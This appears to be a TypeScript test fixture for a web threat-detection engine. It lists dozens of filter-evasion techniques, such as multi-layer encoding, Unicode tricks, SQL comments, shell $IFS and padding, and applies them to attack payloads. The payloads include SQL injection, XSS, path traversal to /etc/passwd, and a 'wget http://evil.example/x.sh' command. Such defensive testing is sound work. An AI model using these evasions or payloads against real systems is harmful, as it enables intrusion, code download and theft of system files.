/**
 * Known ways around filters, each as a function from a payload to a request's score. Payloads are
 * plain; a trick that does not apply to one (blanks, letters, a shell) returns undefined.
 */
import type { ThreatScore } from "../../src/threats/engine.ts";
import { engine, head, scoreBody, scoreJson, scoreQuery, scoreTarget } from "./_requests.ts";

export type Trick = (payload: string) => ThreatScore | undefined;

const bytes = (text: string) => [...new TextEncoder().encode(text)];
const hex = (code: number, digits = 2) => code.toString(16).padStart(digits, "0");
const each = (text: string, write: (code: number) => string) =>
  [...text].map((character) => write(character.codePointAt(0)!)).join("");
const raw = (value: string) => scoreTarget(`/search?q=${value}`);
const form = (text: string) => scoreBody(text, "application/x-www-form-urlencoded");
const encoded = encodeURIComponent;
const fully = (text: string) => bytes(text).map((byte) => `%${hex(byte)}`).join("");
const isShell = (text: string) => /^[;|&$`]/.test(text);
const isSql = (text: string) => /select|or 1/.test(text);
const isMarkup = (text: string) => text.includes("<");
const isPath = (text: string) => text.includes("../");

const overlong = (text: string) =>
  text.replace(/[./<>']/g, (c) => `%c0%${hex(0x80 | (c.charCodeAt(0) & 0x3f))}`);

const multipart = (name: string, text: string, extra = "") =>
  `--xyz\r\nContent-Disposition: form-data; name="${name}"${extra}\r\n\r\n${text}\r\n--xyz--\r\n`;

export const TRICKS: Readonly<Record<string, Trick>> = {
  "plain": scoreQuery,
  "every byte encoded": (p) => raw(fully(p)),
  "upper-case hex": (p) => raw(fully(p).toUpperCase()),
  "double encoding": (p) => raw(encoded(encoded(p))),
  "double encoding of every byte": (p) => raw(encoded(fully(p))),
  "triple encoding": (p) => raw(encoded(encoded(encoded(p)))),
  "overlong UTF-8": (p) => raw(overlong(p).replaceAll(" ", "%20").replaceAll("&", "%26")),
  "%u encoding": (p) => raw(each(p, (code) => `%u${hex(code, 4)}`)),
  "%u full-width": (p) =>
    raw(
      each(p, (code) => code > 32 && code < 127 ? `%u${hex(code + 0xfee0, 4)}` : `%${hex(code)}`),
    ),
  "full-width characters": (p) =>
    scoreQuery(
      each(p, (code) => String.fromCodePoint(code > 32 && code < 127 ? code + 0xfee0 : code)),
    ),
  "HTML entities, decimal": (p) => scoreQuery(each(p, (code) => `&#${code};`)),
  "HTML entities, hex with zeros": (p) => scoreQuery(each(p, (code) => `&#x0000${hex(code)};`)),
  "HTML entities without semicolon": (p) =>
    scoreQuery(p.replace(/[<>'"]/g, (c) => `&#${c.charCodeAt(0)} `.trimEnd())),
  "JSON \\u escapes": (p) => scoreBody(`{"q":"${each(p, (code) => `\\u${hex(code, 4)}`)}"}`),
  "JavaScript \\x escapes": (p) => scoreQuery(each(p, (code) => `\\x${hex(code)}`)),
  "mixed case": (p) =>
    isShell(p) || isPath(p)
      ? undefined
      : scoreQuery([...p].map((c, i) => i % 2 ? c.toUpperCase() : c.toLowerCase()).join("")),
  "NUL inside": (p) => scoreQuery(`${p.slice(0, 3)}\0${p.slice(3)}`),
  "NUL before": (p) => raw(`a.jpg%00${encoded(p)}`),
  "zero-width characters": (p) => scoreQuery([...p].join("\u200b")),
  "soft hyphens": (p) => scoreQuery([...p].join("\u00ad")),
  "tabs for blanks": (p) => p.includes(" ") ? scoreQuery(p.replaceAll(" ", "\t")) : undefined,
  "line ends for blanks": (p) => isSql(p) ? scoreQuery(p.replaceAll(" ", "\n")) : undefined,
  "no-break blanks": (p) => isSql(p) ? scoreQuery(p.replaceAll(" ", "\u00a0")) : undefined,
  "SQL comments for blanks": (p) => isSql(p) ? scoreQuery(p.replaceAll(" ", "/**/")) : undefined,
  "SQL comments with text": (p) => isSql(p) ? scoreQuery(p.replaceAll(" ", "/*x y*/")) : undefined,
  "MySQL's executable comments": (p) =>
    isSql(p) ? scoreQuery(p.replace(/union|select|or/g, (word) => `/*!50000${word}*/`)) : undefined,
  "line comments for blanks": (p) => isSql(p) ? scoreQuery(p.replaceAll(" ", "-- x\n")) : undefined,
  "slashes for blanks": (p) => isMarkup(p) ? scoreQuery(p.replaceAll(" ", "/")) : undefined,
  "line end inside a tag": (p) => isMarkup(p) ? scoreQuery(p.replaceAll(" ", "\r\n")) : undefined,
  "backslashes for slashes": (p) => isPath(p) ? scoreQuery(p.replaceAll("/", "\\")) : undefined,
  "doubled dots and slashes": (p) =>
    isPath(p) ? scoreQuery(p.replaceAll("../", "....//")) : undefined,
  "dot segments": (p) => isPath(p) ? scoreQuery(p.replaceAll("../", ".././/")) : undefined,
  "$IFS": (p) => isShell(p) ? scoreQuery(p.replaceAll(" ", "${IFS}")) : undefined,
  "$IFS$9": (p) => isShell(p) ? scoreQuery(p.replaceAll(" ", "$IFS$9")) : undefined,
  "quotes inside words": (p) =>
    isShell(p) ? scoreQuery(p.replace(/[a-z]{2,}/g, (w) => `${w[0]}''${w.slice(1)}`)) : undefined,
  "backslashes inside words": (p) =>
    isShell(p) ? scoreQuery(p.replace(/[a-z]{2,}/g, (w) => `${w[0]}\\${w.slice(1)}`)) : undefined,
  "$@ inside words": (p) =>
    isShell(p) ? scoreQuery(p.replace(/[a-z]{2,}/g, (w) => `${w[0]}$@${w.slice(1)}`)) : undefined,
  "globbing": (p) =>
    p.includes("/etc/passwd") ? scoreQuery(p.replace("/etc/passwd", "/e?c/p?ss*")) : undefined,
  "base64": (p) => raw(encoded(btoa(p))),
  "URL-safe base64": (p) =>
    scoreJson(btoa(p).replaceAll("+", "-").replaceAll("/", "_").replace(/=+$/, "")),
  "padding of one character before": (p) => form(`q=${"a".repeat(40_000)} ${encoded(p)}`),
  "padding of words before": (p) => scoreJson(`${"lorem ipsum ".repeat(900)}${p}`),
  "padding of another field before": (p) => form(`a=${"x y ".repeat(9_000)}&q=${encoded(p)}`),
  "padding before and cut by size": (p) => {
    const long = new TextEncoder().encode(
      `{"a":"${"x".repeat(200_000)}","q":${JSON.stringify(p)}}`,
    );
    return engine.scoreBody(head("/api", { "content-type": "application/json" }), {
      bytes: long,
      whole: true,
    });
  },
  "padding on both sides": (p) =>
    scoreJson(`${"lorem ipsum ".repeat(2_000)} ${p} ${"dolor sit ".repeat(2_400)}`),
  "padding after": (p) => scoreJson(`${p}${" -".repeat(8_000)}`),
  "JSON declared as text": (p) => scoreBody(JSON.stringify({ q: p }), "text/plain"),
  "JSON declared as a form": (p) =>
    scoreBody(JSON.stringify({ q: p }), "application/x-www-form-urlencoded"),
  "form declared as JSON": (p) => scoreBody(`q=${encoded(p)}`, "application/json"),
  "form without a type": (p) => scoreBody(`q=${encoded(p)}`, ""),
  "JSON declared as a picture": (p) => scoreBody(JSON.stringify({ q: p }), "image/png"),
  "UTF-16": (p) =>
    scoreBody(
      Uint8Array.from(
        [...`{"q":${JSON.stringify(p)}}`].flatMap((
          c,
        ) => [c.charCodeAt(0) & 255, c.charCodeAt(0) >> 8]),
      ),
    ),
  "multipart text": (p) => scoreBody(multipart("q", p), "multipart/form-data; boundary=xyz"),
  "multipart without a boundary": (p) => scoreBody(multipart("q", p), "multipart/form-data"),
  "multipart under a false boundary": (p) =>
    scoreBody(multipart("q", p), "multipart/form-data; boundary=abc"),
  "file name": (p) =>
    scoreBody(
      multipart("f", "x", `; filename="${p.replaceAll('"', "%22")}"`),
      "multipart/form-data; boundary=xyz",
    ),
  "XML text": (p) =>
    scoreBody(
      `<a><b>${p.replace(/[<>&]/g, (c) => `&#${c.charCodeAt(0)};`)}</b></a>`,
      "application/xml",
    ),
  "XML CDATA": (p) => scoreBody(`<a><![CDATA[${p}]]></a>`, "text/xml"),
  "duplicate JSON keys": (p) => scoreBody(`{"q":${JSON.stringify(p)},"q":"x"}`),
  "broken JSON": (p) => scoreBody(`{"q":${JSON.stringify(p)},`),
  "deep JSON": (p) => scoreBody(`${'{"a":['.repeat(50)}${JSON.stringify(p)}${"]}".repeat(50)}`),
  "JSON inside JSON": (p) => scoreJson(JSON.stringify({ inner: JSON.stringify({ q: p }) })),
  "JSON key": (p) => scoreBody(JSON.stringify({ [p]: 1 })),
  "parameter's name": (p) => scoreTarget(`/search?${encoded(p)}=1`),
  "duplicate parameters": (p) => {
    const at = p.indexOf(" ") + 1 || 4;
    return scoreTarget(`/search?q=${encoded(p.slice(0, at))}&q=${encoded(p.slice(at))}`);
  },
  "cookie": (p) => scoreTarget("/", { cookie: `a=b; q=${encoded(p)}; c=d` }),
  "cookie, base64": (p) => scoreTarget("/", { cookie: `q=${btoa(p)}` }),
  "referrer's query": (p) => scoreTarget("/", { referer: `https://a.example/?q=${encoded(p)}` }),
  "user agent": (p) => scoreTarget("/", { "user-agent": p }),
  "X- header": (p) => scoreTarget("/", { "x-api-version": p }),
  "X-Filename": (p) => scoreTarget("/", { "x-filename": p }),
  "path": (p) => scoreTarget(`/a/${encoded(p)}`),
};

export const PAYLOADS: readonly string[] = [
  "' or 1=1--",
  "1' union select name,pass from users--",
  "1 and (select 1 from dual)=1 or 1=1--",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "; cat /etc/passwd",
  "| wget http://evil.example/x.sh",
  "../../../etc/passwd",
  "../../../../windows/win.ini",
];
